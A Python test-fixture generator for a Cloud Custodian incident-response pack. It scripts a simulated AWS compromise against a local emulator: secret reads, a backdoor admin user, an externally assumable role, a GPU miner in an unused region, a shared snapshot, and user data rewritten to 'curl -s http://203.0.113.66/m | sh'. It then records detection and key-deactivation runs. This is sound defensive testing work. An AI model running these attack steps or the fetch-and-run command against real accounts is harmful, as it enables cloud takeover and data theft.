"""Record tests/data/report/activity: a sweep whose output holds activity review findings.

    .venv/bin/python tests/data/generate_activity_report_fixture.py

One compromised account (``prod``) and one clean one (``dev``), in us-east-1 (allowed)
and eu-north-1 (not). Before ``incident_start`` deploy-bot's CI key leaks; after it, the
attacker uses that key from 203.0.113.66 (the demo's attacker, custodian_ext_dev.demo.story):
enumerates, reads a secret and a SecureString parameter with decryption, checks SES sending,
creates a backdoor user with a key and administrator rights, creates a role and assumes it,
and with the role's temporary key (ASIA...) launches a GPU miner in eu-north-1, reads and
changes an instance's user data, shares a snapshot and fails to leave the organization. The
emulator records every call as CloudTrail event history (custodian_ext_dev/emulator).

Then, in-process through c7n-org's own ``run_account`` (the function its workers call):

- the stock detect policies that see what the attacker left (R3.3, R4.1, R4.2, X1);
- ``r2-2-suspect-activity``, a fixture-only policy on ``aws.account-region`` whose filter
  stands in for the activity filter being written separately (issue #14): suspects are the
  keys of users carrying AWS's quarantine marker, followed through AssumeRole to the
  temporary keys they got (each its own suspect credential, with the chain in ``Via``, as
  the activity filter does); their events since incident_start come from LookupEvents and
  are classified with the pack's catalogue; the annotations have the shared shape
  (HELPERS.md): ``c7n:activity`` and ``c7n:activity-coverage``;
- respond runs: deploy-bot's keys deactivated (a fixture action, as in
  generate_report_fixture.py), the backdoor user's keys deactivated, and the miner's
  snapshot-then-terminate in --dryrun.

The recorded tree is committed; re-record only when the output format changes, then update
the golden files (UPDATE_GOLDEN=1, see tests/inprocess/test_report_activity.py).
"""
import base64
import datetime
import json
import os
import shutil
import sys
import tempfile
import time

import yaml

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, REPO)

from custodian_ext_dev.demo import story  # noqa: E402
from custodian_ext_dev.emulator import AMI_X86, Emulator  # noqa: E402
from tests.support import POLICIES, new_account  # noqa: E402

DEST = os.path.join(REPO, 'tests', 'data', 'report', 'activity')
PROD, DEV = '111111111111', '222222222222'
REGIONS = ['us-east-1', 'eu-north-1']
GLOBAL_REGION = 'us-east-1'
ADMIN = 'arn:aws:iam::aws:policy/AdministratorAccess'

DETECT = ['r3-3-ec2-outside-allowed-regions', 'r4-1-iam-users-created-since-incident',
          'r4-1-iam-roles-created-since-incident', 'r4-1-access-keys-created-since-incident',
          'r4-2-ebs-snapshot-shared', 'x1-quarantined-user-active-keys']

ACTIVITY = {
    'name': 'r2-2-suspect-activity',
    'resource': 'aws.account-region',
    'description': 'What suspect credentials did since the incident started, from CloudTrail '
                   '(fixture stand-in for the activity filter).',
    'metadata': {'runbook': 'R2.2', 'severity': 'high', 'attack': 'T1078.004',
                 'remediation': 'Follow the attack timeline; contain every credential in it.'},
    'tags': ['runbook:R2.2', 'severity:high', 'detect'],
    'filters': [{'type': 'fixture-activity', 'since': '{incident_start}'}],
}

RESPOND_KEYS = {
    'name': 'x1-deactivate-quarantined-keys',
    'resource': 'aws.iam-user',
    'description': 'Deactivate the active keys of users AWS quarantined.',
    'metadata': {'runbook': 'X1'},
    'tags': ['runbook:X1', 'respond'],
    'conditions': [{'type': 'value', 'key': 'region', 'value': '{global_region}'}],
    'filters': [{'type': 'quarantine-marker'},
                {'type': 'access-key', 'key': 'Status', 'value': 'Active'}],
    'actions': [{'type': 'fixture-deactivate-keys'}],
}

RESPOND_BACKDOOR = {
    'name': 'x3-deactivate-unknown-user-keys',
    'resource': 'aws.iam-user',
    'description': 'Deactivate the keys of IAM users created since the incident.',
    'metadata': {'runbook': 'X3'},
    'tags': ['runbook:X3', 'respond'],
    'conditions': [{'type': 'value', 'key': 'region', 'value': '{global_region}'}],
    'filters': [{'type': 'value', 'key': 'CreateDate', 'value_type': 'date', 'op': 'gte',
                 'value': '{incident_start}'},
                {'type': 'access-key', 'key': 'Status', 'value': 'Active'}],
    'actions': [{'type': 'fixture-deactivate-keys'}],
}

RESPOND_X7 = {
    'name': 'x7-snapshot-then-terminate',
    'resource': 'aws.ec2',
    'description': 'Snapshot the volumes of instances outside the allowed regions, then '
                   'terminate them.',
    'metadata': {'runbook': 'X7'},
    'tags': ['runbook:X7', 'respond'],
    'conditions': [{'type': 'value', 'key': 'region', 'op': 'not-in',
                    'value': '{allowed_regions}'}],
    'actions': ['snapshot', 'terminate'],
}

STS_CREDENTIAL_CALLS = ('AssumeRole', 'GetSessionToken', 'GetFederationToken')


def register_standins():
    """The fixture-only activity filter and key-deactivation action."""
    from c7n.filters import Filter
    from c7n.utils import local_session, type_schema
    from custodian_ext.actions.core import DONE, SKIPPED, PackAction, result
    from custodian_ext.activity import catalogue
    from custodian_ext.registry import register

    class DeactivateKeys(PackAction):
        schema = type_schema('fixture-deactivate-keys')
        permissions = ('iam:UpdateAccessKey',)

        def process_resource(self, r):
            keys = [k['AccessKeyId'] for k in r.get('c7n:matched-keys', ())]
            if not keys:
                return result(r['UserName'], SKIPPED, 'no matched keys')
            iam = local_session(self.manager.session_factory).client('iam')
            for k in keys:
                iam.update_access_key(UserName=r['UserName'], AccessKeyId=k, Status='Inactive')
            return result(r['UserName'], DONE, '', access_keys=keys)

    class FixtureActivity(Filter):
        """Stands in for the activity filter (issue #14, written separately)."""
        schema = type_schema('fixture-activity', since={'type': 'string'})
        permissions = ('cloudtrail:LookupEvents', 'iam:ListUsers')

        def process(self, resources, event=None):
            session = local_session(self.manager.session_factory)
            region = self.manager.config.region
            start = self.data['since']
            suspects = self._suspects(session.client('iam'))
            chain = {}
            home = session.client('cloudtrail', region_name=GLOBAL_REGION)
            for key, reason in suspects.items():
                chain[key] = (key, reason, [key])
                for rec in self._lookup(home, key, start):
                    if rec['eventName'] in STS_CREDENTIAL_CALLS and not rec.get('errorCode'):
                        temp = ((rec.get('responseElements') or {}).get('credentials') or {}
                                ).get('accessKeyId')
                        if temp:
                            chain[temp] = (temp, f"temporary credentials {key} obtained with "
                                                 f"{rec['eventName']}", [key, temp])
            trail = session.client('cloudtrail', region_name=region)
            cat = catalogue.load()
            events = []
            for key, (credential, reason, via) in chain.items():
                for rec, raw in self._lookup(trail, key, start, raw=True):
                    events.append(self._event(rec, raw, cat, credential, reason, via))
            events.sort(key=lambda e: e['EventTime'])
            for r in resources:
                r['c7n:activity'] = events
                r['c7n:activity-coverage'] = {
                    'Sources': ['event-history'],
                    'Window': {'Start': start, 'End': FIXED_END},
                    'Regions': [region], 'DataEvents': 'not-recorded', 'CutShort': [],
                    'Notes': ['event history holds management events only: S3 object '
                              'deletes and overwrites and Lambda invokes are not visible']}
            return [r for r in resources if r['c7n:activity']]

        def _suspects(self, iam):
            out = {}
            for page in iam.get_paginator('list_users').paginate():
                for u in page['Users']:
                    policies = iam.list_attached_user_policies(UserName=u['UserName'])
                    marked = [p['PolicyName'] for p in policies['AttachedPolicies']
                              if p['PolicyName'].startswith('AWSCompromisedKeyQuarantine')]
                    if not marked:
                        continue
                    for k in iam.list_access_keys(UserName=u['UserName'])['AccessKeyMetadata']:
                        out[k['AccessKeyId']] = (f"AWS quarantine marker {marked[0]} on "
                                                 f"user {u['UserName']}")
            return out

        def _lookup(self, client, key, start, raw=False):
            kw = {'LookupAttributes': [{'AttributeKey': 'AccessKeyId', 'AttributeValue': key}],
                  'StartTime': start}
            while True:
                page = client.lookup_events(**kw)
                for ev in page['Events']:
                    rec = json.loads(ev['CloudTrailEvent'])
                    yield (rec, ev) if raw else rec
                if not page.get('NextToken'):
                    return
                kw['NextToken'] = page['NextToken']

        def _event(self, rec, raw, cat, credential, reason, via):
            c = cat.classify(rec)
            ident = rec.get('userIdentity') or {}
            return {
                'EventId': rec['eventID'], 'EventName': rec['eventName'],
                'EventSource': rec['eventSource'], 'EventTime': rec['eventTime'],
                'Region': rec['awsRegion'], 'Principal': ident.get('arn'),
                'PrincipalType': ident.get('type'), 'AccessKeyId': ident.get('accessKeyId'),
                'SourceIPAddress': rec.get('sourceIPAddress'), 'UserAgent': rec.get('userAgent'),
                'ErrorCode': rec.get('errorCode'),
                'Resources': [{'Type': r.get('ResourceType'), 'Name': r.get('ResourceName')}
                              for r in raw.get('Resources') or ()],
                'Tactic': c.tactic if c else 'unclassified',
                'TacticId': c.tactic_id if c else None,
                'Technique': c.technique if c else None,
                'Severity': c.severity if c else None,
                'CatalogueId': c.id if c else None,
                'Title': c.title if c else None,
                'Suspect': {'Credential': credential, 'Reason': reason, 'Via': via},
                'Source': 'event-history'}

    register('action', 'fixture-deactivate-keys', DeactivateKeys, ['iam-user'])
    register('filter', 'fixture-activity', FixtureActivity, ['account-region'])


FIXED_END = None  # set in main(): the time the sweep ran


def seed(emu):
    prod = new_account(emu.url, PROD)
    dev = new_account(emu.url, DEV)
    for acct in (prod, dev):
        story.seed_baseline(acct.url, acct.id)
    admin = prod.client('secretsmanager')
    admin.create_secret(Name='prod/payments/db', SecretString='{"password": "not-real"}')
    prod.client('ssm').put_parameter(Name='/prod/payments/api-key', Value='not-real',
                                     Type='SecureString')
    ec2 = prod.client('ec2')
    vol = ec2.create_volume(AvailabilityZone='us-east-1a', Size=20)['VolumeId']
    key = story.leak_key(prod.url, prod.id)
    start = story.incident_boundary()

    a = story.attacker_session(prod.url, key)
    a.client('sts').get_caller_identity()
    iam = a.client('iam')
    iam.list_users()
    iam.list_roles()
    pause()
    a.client('secretsmanager').get_secret_value(SecretId='prod/payments/db')
    a.client('ssm').get_parameter(Name='/prod/payments/api-key', WithDecryption=True)
    ses = a.client('ses')
    ses.get_send_quota()
    ses.list_identities()
    pause()
    iam.create_user(UserName='backdoor-admin')
    iam.create_access_key(UserName='backdoor-admin')
    iam.attach_user_policy(UserName='backdoor-admin', PolicyArn=ADMIN)
    iam.create_role(RoleName='ops-maintenance', AssumeRolePolicyDocument=json.dumps({
        'Version': '2012-10-17', 'Statement': [{
            'Effect': 'Allow', 'Principal': {'AWS': f'arn:aws:iam::{story.ATTACKER_ACCOUNT}:root'},
            'Action': 'sts:AssumeRole'}]}))
    iam.attach_role_policy(RoleName='ops-maintenance', PolicyArn=ADMIN)
    pause()
    creds = a.client('sts').assume_role(
        RoleArn=f'arn:aws:iam::{PROD}:role/ops-maintenance',
        RoleSessionName='maintenance')['Credentials']
    r = attacker(prod.url, creds)
    pause()
    far = r.client('ec2', region_name=story.UNUSED_REGION)
    far.run_instances(ImageId=AMI_X86, MinCount=1, MaxCount=1, InstanceType='p3.2xlarge')
    near = r.client('ec2')
    web = near.describe_instances(Filters=[{'Name': 'tag:Name', 'Values': ['web-1']}])[
        'Reservations'][0]['Instances'][0]['InstanceId']
    pause()
    near.describe_instance_attribute(InstanceId=web, Attribute='userData')
    near.stop_instances(InstanceIds=[web])
    near.modify_instance_attribute(InstanceId=web, UserData={
        'Value': base64.b64encode(b'#!/bin/sh\ncurl -s http://203.0.113.66/m | sh\n')})
    near.start_instances(InstanceIds=[web])
    pause()
    snap = near.create_snapshot(VolumeId=vol, Description='db export')['SnapshotId']
    near.modify_snapshot_attribute(SnapshotId=snap, Attribute='createVolumePermission',
                                   OperationType='add', UserIds=[story.ATTACKER_ACCOUNT])
    pause()
    try:
        r.client('organizations').leave_organization()
    except Exception as e:  # the account is in no organization: a failed call
        print('LeaveOrganization failed as intended:', type(e).__name__)
    # AWS finds the key on a public repository and quarantines its user.
    prod.client('iam').attach_user_policy(
        UserName='deploy-bot', PolicyArn='arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV2')
    return prod, dev, start


def pause(seconds=2):
    """Seconds between the attacker's steps, so that the timeline has a shape."""
    time.sleep(seconds)


def attacker(url, creds):
    """story.attacker_session with temporary credentials (the assumed role's)."""
    import boto3
    from botocore.config import Config
    from custodian_ext_dev.emulator import assert_loopback

    assert_loopback(url)

    def from_attacker(request, **kw):
        request.headers['X-Forwarded-For'] = story.ATTACKER_IP

    class Session(boto3.Session):
        def client(self, service, *args, **kw):
            kw['endpoint_url'] = url
            kw['config'] = Config(retries={'max_attempts': 1, 'mode': 'standard'},
                                  user_agent=story.ATTACKER_AGENT)
            c = super().client(service, *args, **kw)
            c.meta.events.register('before-sign.*.*', from_attacker)
            return c

    return Session(aws_access_key_id=creds['AccessKeyId'],
                   aws_secret_access_key=creds['SecretAccessKey'],
                   aws_session_token=creds['SessionToken'], region_name='us-east-1')


def bundle(names):
    policies = []
    for name in sorted(os.listdir(os.path.join(POLICIES, 'detect'))):
        if name.endswith('.yml'):
            with open(os.path.join(POLICIES, 'detect', name)) as fh:
                policies.extend(p for p in yaml.safe_load(fh)['policies'] if p['name'] in names)
    assert {p['name'] for p in policies} == set(names), names
    return policies


def main():
    global FIXED_END
    work = tempfile.mkdtemp(prefix='report-activity-fixture-')
    out = os.path.join(work, 'out')
    with Emulator(log_file=os.path.join(work, 'emulator.log')) as emu:
        prod, dev, start = seed(emu)
        FIXED_END = datetime.datetime.now(datetime.timezone.utc).strftime('%Y-%m-%dT%H:%M:%SZ')
        variables = story.demo_vars(start)
        os.environ.update(emu.env())
        os.environ['HOME'] = work
        from c7n_org.cli import run_account

        import custodian_ext.patches
        custodian_ext.patches.install('c7n-org')  # as the stock c7n-org loads the pack
        register_standins()
        accounts = [{'name': name, 'account_id': acct.id, 'vars': variables,
                     'role': f'arn:aws:iam::{acct.id}:role/OrganizationAccountAccessRole'}
                    for name, acct in (('prod', prod), ('dev', dev))]
        detect = bundle(DETECT) + [ACTIVITY]
        for a in accounts:
            for region in REGIONS:
                counts, ok = run_account(a, region, {'policies': detect}, out, 0, work,
                                         False, False, False)
                print(a['name'], region, 'detect', counts, ok)
        for a in accounts:
            for region in REGIONS:
                for policy, dryrun in ((RESPOND_KEYS, False), (RESPOND_BACKDOOR, False),
                                       (RESPOND_X7, True)):
                    counts, ok = run_account(a, region, {'policies': [policy]}, out, 0, work,
                                             False, dryrun, False)
                    print(a['name'], region, policy['name'], counts, ok)
    for root, _, files in os.walk(out):
        for f in files:
            p = os.path.join(root, f)
            with open(p) as fh:
                text = fh.read()
            text = text.replace(work, '/tmp/report-activity-fixture')
            with open(p, 'w') as fh:
                fh.write(text)
    if os.path.exists(DEST):
        shutil.rmtree(DEST)
    shutil.copytree(out, DEST)
    shutil.rmtree(work)
    print('recorded', DEST)


if __name__ == '__main__':
    main()
